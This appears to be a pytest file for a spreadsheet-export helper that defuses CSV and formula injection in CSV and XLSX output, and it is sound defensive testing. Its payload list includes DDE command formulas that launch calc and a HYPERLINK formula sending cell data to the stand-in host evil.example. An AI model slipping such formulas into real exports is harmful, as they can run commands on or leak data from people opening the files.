"""common.spreadsheets: formula-like text never reaches a spreadsheet as a formula (OWASP,
"CSV Injection"), in CSV files and in XLSX workbooks read back with openpyxl."""

import csv
import io

import pytest
from openpyxl import load_workbook

from common import spreadsheets

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0bSUM(1,2)",
    "\uff0d1",
    "\uff20SUM(1,2)",
]
SAFE = ["Numérique responsable", "", "a=b", "Éco-conception", " espace", "'déjà cité"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_gets_an_apostrophe(payload):
    assert spreadsheets.formula_like(payload)
    assert spreadsheets.cell_safe(payload) == "'" + payload


@pytest.mark.parametrize("value", [*SAFE, 3, -5, 2.5, None])
def test_other_values_are_left_as_they_are(value):
    assert not spreadsheets.formula_like(value)
    assert spreadsheets.cell_safe(value) == value


def test_csv_writer_makes_every_cell_safe():
    out = io.StringIO()
    writer = spreadsheets.csv_writer(out, lineterminator="\n")
    writer.writerow(["id", "titre"])
    writer.writerows([[index, payload] for index, payload in enumerate(PAYLOADS)])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["id", "titre"]
    assert [row[1] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
    assert [row[0] for row in rows[1:]] == [str(index) for index in range(len(PAYLOADS))]


def test_csv_stream_yields_utf8_lines_with_a_byte_order_mark():
    rows = [["titre", "heures"], *([payload, -5] for payload in PAYLOADS), ["Écologie", 2.5]]
    chunks = list(spreadsheets.csv_stream(iter(rows)))
    assert chunks[0] == "\ufeff".encode()
    assert len(chunks) == len(rows) + 1
    text = b"".join(chunks).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text)))
    assert read[0] == ["titre", "heures"]
    assert read[1:-1] == [["'" + payload, "-5"] for payload in PAYLOADS]
    assert read[-1] == ["Écologie", "2.5"]


def test_csv_response_streams_an_attachment():
    response = spreadsheets.csv_response([["=1+1"]], filename="export.csv")
    assert response.streaming
    assert response["Content-Disposition"] == 'attachment; filename="export.csv"'
    assert b"".join(response.streaming_content).decode("utf-8-sig") == "'=1+1\r\n"


def test_xlsx_keeps_the_text_but_never_as_a_formula(tmp_path):
    rows = [
        ["titre", "heures"],
        *([payload, -5] for payload in PAYLOADS),
        ["Eco\x0bconception", 2.5],
    ]
    path = tmp_path / "export.xlsx"
    spreadsheets.xlsx_write(rows, file=path, title="Compétences")
    sheet = load_workbook(path)["Compétences"]
    cells = list(sheet.iter_rows(min_row=2, max_row=len(PAYLOADS) + 1))
    for (text, hours), payload in zip(cells, PAYLOADS, strict=True):
        assert text.value == payload
        assert text.data_type == "s"
        assert text.quotePrefix
        assert hours.value == -5 and hours.data_type == "n"
    last = list(sheet.iter_rows(min_row=len(rows), values_only=True))[0]
    assert last == ("Ecoconception", 2.5)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_returns_bytes_without_a_file():
    data = spreadsheets.xlsx_write([["=1+1"]])
    assert data[:2] == b"PK"
    assert load_workbook(io.BytesIO(data)).active["A1"].data_type == "s"
